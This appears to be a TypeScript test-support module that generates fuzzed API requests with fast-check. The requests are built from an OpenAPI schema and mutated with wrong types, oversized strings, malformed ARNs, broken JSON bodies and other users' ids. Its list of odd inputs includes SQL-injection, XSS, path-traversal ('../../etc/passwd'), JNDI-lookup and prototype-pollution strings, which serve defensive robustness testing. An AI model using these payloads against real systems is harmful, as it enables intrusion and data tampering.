// Generated bad input for the /api/v1 fuzz test (tests/api/fuzz.test.ts), with
// fast-check. The input schemas come from the OpenAPI document, which is itself
// generated from each operation's zod schema (lib/api/openapi.ts): the shapes the
// fuzz starts from are exactly what the routes validate. For each operation a
// near-valid value is drawn (real ids, names and ARNs of the test world where a
// field is named like one), then mutated: wrong types, missing and extra fields,
// strings past the caps, unicode and control characters, other users' ids,
// malformed ARNs; bodies also come as invalid JSON, non-objects, empty, over the
// 256 kB cap and with wrong content types; queries with unknown, repeated and
// badly encoded parameters.
import fc from "fast-check";

export interface JsonSchema {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
}

/** One operation of the OpenAPI document, as the fuzz needs it. */
export interface DocOperation {
  method: "GET" | "POST" | "DELETE";
  path: string;
  pathParams: Record<string, JsonSchema>;
  query: Record<string, JsonSchema>;
  body?: JsonSchema;
}

/** Real values of the test world by field name (ids of other users' objects, cluster names, ARNs, keys). */
export type Known = Record<string, readonly string[]>;

interface OpenApiDoc {
  paths: Record<string, Record<string, { parameters?: { in: string; name: string; schema: JsonSchema }[]; requestBody?: { content: Record<string, { schema: JsonSchema }> } }>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

export function documentOperations(doc: unknown): DocOperation[] {
  const d = doc as OpenApiDoc;
  const deref = (s: JsonSchema): JsonSchema => (s.$ref ? deref(d.components!.schemas![s.$ref.split("/").pop()!]!) : s);
  return Object.entries(d.paths).flatMap(([path, item]) =>
    Object.entries(item).map(([method, op]) => {
      const params = (op.parameters ?? []).map((p) => ({ ...p, schema: deref(p.schema) }));
      const body = op.requestBody?.content["application/json"]?.schema;
      return {
        method: method.toUpperCase() as DocOperation["method"],
        path,
        pathParams: Object.fromEntries(params.filter((p) => p.in === "path").map((p) => [p.name, p.schema])),
        query: Object.fromEntries(params.filter((p) => p.in === "query").map((p) => [p.name, p.schema])),
        ...(body ? { body: deref(body) } : {}),
      };
    }),
  );
}

// ---- values that are wrong on purpose ---------------------------------------

const WEIRD = [
  "", " ", "\t\n", "\u0000", "a\u0000b", "\u202eevil", "\ud800", "x\udfffy", "\ufeff", "👩‍👩‍👧‍👦", "Ω≈ç√", "ǅ", "..", "../../etc/passwd",
  "%", "%ZZ", "%00", "%E0%A4%A", "100%", "a%2Fb", "' OR '1'='1", `"; DROP TABLE "User"; --`, "<script>alert(1)</script>", "<!channel> <@U123|x>",
  "${jndi:ldap://x/a}", "null", "undefined", "NaN", "Infinity", "-1", "0", "1e309", "0x10", "9".repeat(400), "__proto__", "constructor",
  "*", "?", "*?*?*?*?*?*?*?*?*?*?*?*?X", "system:serviceaccount:*:*", "2026-02-30", "2026-13-01T00:00:00Z", "9999-12-31T23:59:59Z", "-000001-01-01T00:00:00Z",
];

/** Strings past each cap the schemas use (63, 64, 100, 128, 253, 256, 2000, 10 000) and past the 256 kB body cap. */
const huge = fc
  .tuple(fc.constantFrom(64, 101, 129, 254, 257, 2_001, 10_001, 70_000, 300_000), fc.constantFrom("a", "é", "\u0000", "🙂", "-"))
  .map(([n, c]) => c.repeat(n));

export const badStrings: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...WEIRD) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: huge },
);

const PARTITIONS = ["aws", "aws-cn", "aws-us-gov", "aws-iso", "awsx", "", "AWS"];
const ACCOUNTS = ["111122223333", "999999999999", "11112222333", "1111222233334", "abcdefghijkl", "", "000000000000"];
const RESOURCES = ["role/domino/domino-pi-unmapped", "role/", "role/a b", "role/x*", "user/alice", "role/" + "r".repeat(600), "policy/x", "oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/X"];

/** ARN-shaped strings: wrong partition, account, service, region or resource type, and plain garbage. */
export const badArns: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(fc.constantFrom(...PARTITIONS), fc.constantFrom("iam", "eks", "s3", "sts", ""), fc.constantFrom("", "us-east-1", "*"), fc.constantFrom(...ACCOUNTS), fc.constantFrom(...RESOURCES))
    .map(([p, svc, region, account, res]) => `arn:${p}:${svc}:${region}:${account}:${res}`),
  fc.constantFrom("arn:aws:s3:::bucket", "arn:aws:eks:us-east-1:111122223333:podidentityassociation/domino-green/a-0123456789abcdefg", "arn", "arn:::::", "arn:aws:iam::111122223333"),
);

/** A value of any wrong type, or a wrong value of the right type. */
function badValue(known: Known): fc.Arbitrary<unknown> {
  const anyKnown = Object.values(known).flat();
  return fc.oneof(
    { weight: 4, arbitrary: badStrings },
    { weight: 1, arbitrary: badArns },
    { weight: 2, arbitrary: anyKnown.length ? fc.constantFrom(...anyKnown) : badStrings },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.constantFrom(-1, 0, 0.5, -0, 2 ** 31, 2 ** 53 + 2, 1e308, -1e308, 1e21) },
    { weight: 1, arbitrary: fc.double() },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
  );
}

const EXTRA_KEYS = ["__proto__", "constructor", "prototype", "role", "status", "requesterId", "approvals", "reviewerId", "userId", "id", "kind", "isAdmin", "mode", ""];
const extraKey = fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 12 }));

// ---- near-valid values from a schema ------------------------------------------

/** fc.stringMatching for a schema pattern, or any string when fast-check cannot read the pattern. */
function matching(pattern: string): fc.Arbitrary<string> {
  try {
    return fc.stringMatching(new RegExp(pattern));
  } catch {
    return fc.string({ maxLength: 30 });
  }
}

function stringOf(s: JsonSchema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = Math.min(s.maxLength ?? 40, Math.max(min, 40));
  if (s.format === "uuid") return fc.uuid();
  if (s.format === "date-time") return fc.date({ min: new Date("2020-01-01"), max: new Date("2035-01-01"), noInvalidDate: true }).map((d) => d.toISOString());
  if (s.pattern) return matching(s.pattern).filter((v) => v.length >= min && v.length <= (s.maxLength ?? Infinity));
  return fc.string({ minLength: min, maxLength: max });
}

/** A value the schema accepts, or nearly: real world values for fields named like them. */
export function validValue(schema: JsonSchema, known: Known, name?: string): fc.Arbitrary<unknown> {
  const alts = schema.anyOf ?? schema.oneOf;
  if (alts) return fc.oneof(...alts.map((a) => validValue(a, known, name)));
  if (schema.allOf) return validValue(mergeObjects(schema.allOf), known, name);
  if ("const" in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const own = byType(schema, known);
  const pool = name ? known[name] : undefined;
  return pool?.length ? fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...pool) }, { weight: 1, arbitrary: own }) : own;
}

function mergeObjects(parts: JsonSchema[]): JsonSchema {
  return { type: "object", properties: Object.assign({}, ...parts.map((p) => p.properties ?? {})), required: parts.flatMap((p) => p.required ?? []) };
}

function byType(s: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case "string":
      return stringOf(s);
    case "integer":
      return fc.integer({ min: s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : (s.minimum ?? -1000), max: s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : (s.maximum ?? 1000) });
    case "number":
      return fc.double({ min: s.minimum ?? -1000, max: s.maximum ?? 1000, noNaN: true });
    case "boolean":
      return fc.boolean();
    case "array":
      return fc.array(validValue(s.items ?? {}, known), { minLength: s.minItems ?? 0, maxLength: Math.min(s.maxItems ?? 3, Math.max(s.minItems ?? 0, 3)) });
    case "object": {
      const props = s.properties ?? {};
      const record = fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, validValue(v, known, k)])), { requiredKeys: (s.required ?? []).filter((k) => k in props) });
      if (typeof s.additionalProperties !== "object") return record;
      const extra = fc.dictionary(stringOf({ minLength: 1, maxLength: 20 }), validValue(s.additionalProperties, known), { maxKeys: 3 });
      return fc.tuple(record, extra).map(([a, b]) => ({ ...b, ...a }));
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

// ---- mutations --------------------------------------------------------------

type Mutation = { kind: "replace" | "delete" | "extra"; at: number; key: string; value: unknown };

function mutation(known: Known): fc.Arbitrary<Mutation> {
  return fc.record({ kind: fc.constantFrom("replace", "replace", "delete", "extra"), at: fc.nat(), key: extraKey, value: badValue(known) });
}

/** Every [container, key] of a JSON value, depth first (the root itself excluded). */
function slots(value: unknown): [Record<string, unknown> | unknown[], string | number][] {
  if (value === null || typeof value !== "object") return [];
  const entries: [string | number, unknown][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([k, v]) => [[value as Record<string, unknown>, k] as [Record<string, unknown>, string | number], ...slots(v)]);
}

function containers(value: unknown): Record<string, unknown>[] {
  if (value === null || typeof value !== "object") return [];
  const own = Array.isArray(value) ? [] : [value as Record<string, unknown>];
  return [...own, ...Object.values(value).flatMap(containers)];
}

function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  // defineProperty: "__proto__" becomes an own key that JSON.stringify sends, as a hostile client would.
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
}

function applyMutation(root: unknown, m: Mutation): unknown {
  if (m.kind === "extra") {
    const objs = containers(root);
    if (objs.length) setOwn(objs[m.at % objs.length]!, m.key, m.value);
    return root;
  }
  const all = slots(root);
  if (!all.length) return m.value;
  const [parent, key] = all[m.at % all.length]!;
  if (m.kind === "delete") {
    if (Array.isArray(parent)) parent.splice(key as number, 1);
    else delete parent[key as string];
  } else if (Array.isArray(parent)) parent[key as number] = m.value;
  else setOwn(parent, key as string, m.value);
  return root;
}

/** A near-valid value of the schema with one to three mutations. */
export function mutatedValue(schema: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  return fc.tuple(validValue(schema, known), fc.array(mutation(known), { minLength: 1, maxLength: 3 })).map(([v, ms]) => ms.reduce((acc, m) => applyMutation(acc, m), structuredClone(v)));
}

// ---- whole requests -----------------------------------------------------------

export interface FuzzRequest {
  method: DocOperation["method"];
  /** What Next hands the route handler as its params (decoded once from the URL). */
  params: Record<string, string>;
  /** The query string, "?..." or "". */
  query: string;
  contentType: string | undefined;
  body: string | undefined;
}

const nest = (n: number, open: string, leaf: string, close: string) => open.repeat(n) + leaf + close.repeat(n);
const RAW_BODIES = [
  "", "   ", "{", '{"a":', "null", "[]", "[{}]", '"text"', "42", "true", "\ufeff{}", "{}x", "{'a':1}", "NaN", '{"a":1,"a":2}',
  "\u0000", "<xml/>", "kind=create&cluster=domino-green", nest(100_000, "[", "", "]"), nest(20_000, '{"a":', "1", "}"), `{"justification":"${"a".repeat(300_000)}"}`,
];

const rawBody: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...RAW_BODIES) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v) ?? "") },
);

const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.constant("application/json") },
  { weight: 1, arbitrary: fc.constantFrom("application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "", undefined) },
);

function bodyOf(op: DocOperation, known: Known): fc.Arbitrary<string | undefined> {
  const schema = op.body ?? { type: "object", properties: {} };
  return fc.oneof(
    { weight: 6, arbitrary: mutatedValue(schema, known).map((v) => JSON.stringify(v) ?? "") },
    // Unmutated: other users' ids and real names in an otherwise valid body (and the baseline that handlers are reached).
    { weight: 1, arbitrary: validValue(schema, known).map((v) => JSON.stringify(v)) },
    { weight: 2, arbitrary: rawBody },
  );
}

/** Percent-encoding, or the raw text where it cannot be encoded (lone surrogates): the URL parser then escapes what it must. */
export function encodeLoosely(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return s;
  }
}

/** Query parameters: valid ones mutated, unknown ones, repeats; values mostly percent-encoded, sometimes raw. */
function queryOf(op: DocOperation, known: Known): fc.Arbitrary<string> {
  const valid = fc.record(Object.fromEntries(Object.entries(op.query).map(([k, s]) => [k, validValue(s, known, k).map(String)])), { requiredKeys: [] });
  const names = Object.keys(op.query);
  const entry = fc.tuple(names.length ? fc.oneof(fc.constantFrom(...names), extraKey) : extraKey, fc.oneof(badStrings, badArns, fc.integer().map(String)));
  const encode = fc.constantFrom(true, true, true, false);
  return fc.tuple(valid, fc.array(entry, { maxLength: 4 }), fc.array(encode, { minLength: 8, maxLength: 8 })).map(([v, extra, enc]) => {
    const pairs: [string, string][] = [...Object.entries(v).map(([k, x]): [string, string] => [k, String(x)]), ...extra];
    if (!pairs.length) return "";
    return "?" + pairs.map(([k, val], i) => (enc[i % enc.length] ? `${encodeLoosely(k)}=${encodeLoosely(val)}` : `${k}=${val}`)).join("&");
  });
}

function paramOf(name: string, schema: JsonSchema, known: Known): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: known[name]?.length ? fc.constantFrom(...known[name]!) : validValue(schema, known, name).map(String) },
    { weight: 1, arbitrary: validValue(schema, known).map(String) },
    { weight: 3, arbitrary: badStrings },
    { weight: name === "arn" ? 3 : 1, arbitrary: badArns.chain((a) => fc.constantFrom(a, encodeLoosely(a))) },
  );
}

export function requestOf(op: DocOperation, known: Known): fc.Arbitrary<FuzzRequest> {
  const params = fc.record(Object.fromEntries(Object.entries(op.pathParams).map(([k, s]) => [k, paramOf(k, s, known)])));
  const withBody = op.method === "POST";
  return fc
    .tuple(params, withBody ? fc.constant("") : queryOf(op, known), withBody ? bodyOf(op, known) : fc.constant(undefined), withBody ? contentType : fc.constant(undefined))
    .map(([p, query, body, type]) => {
      const req: FuzzRequest = { method: op.method, params: p as Record<string, string>, query, contentType: type, body };
      // fast-check prints counterexamples with this (bodies can be 300 kB).
      return Object.assign(req, { [fc.toStringMethod]: () => describeRequest(req) });
    });
}

/** Short enough to read in a failure message (bodies can be 300 kB). */
export function describeRequest(r: FuzzRequest): string {
  const cut = (s: string) => (s.length > 300 ? `${JSON.stringify(s.slice(0, 300))}... (${s.length} chars)` : JSON.stringify(s));
  return `params ${cut(JSON.stringify(r.params))} query ${cut(r.query)} content-type ${JSON.stringify(r.contentType)} body ${r.body === undefined ? "none" : cut(r.body)}`;
}
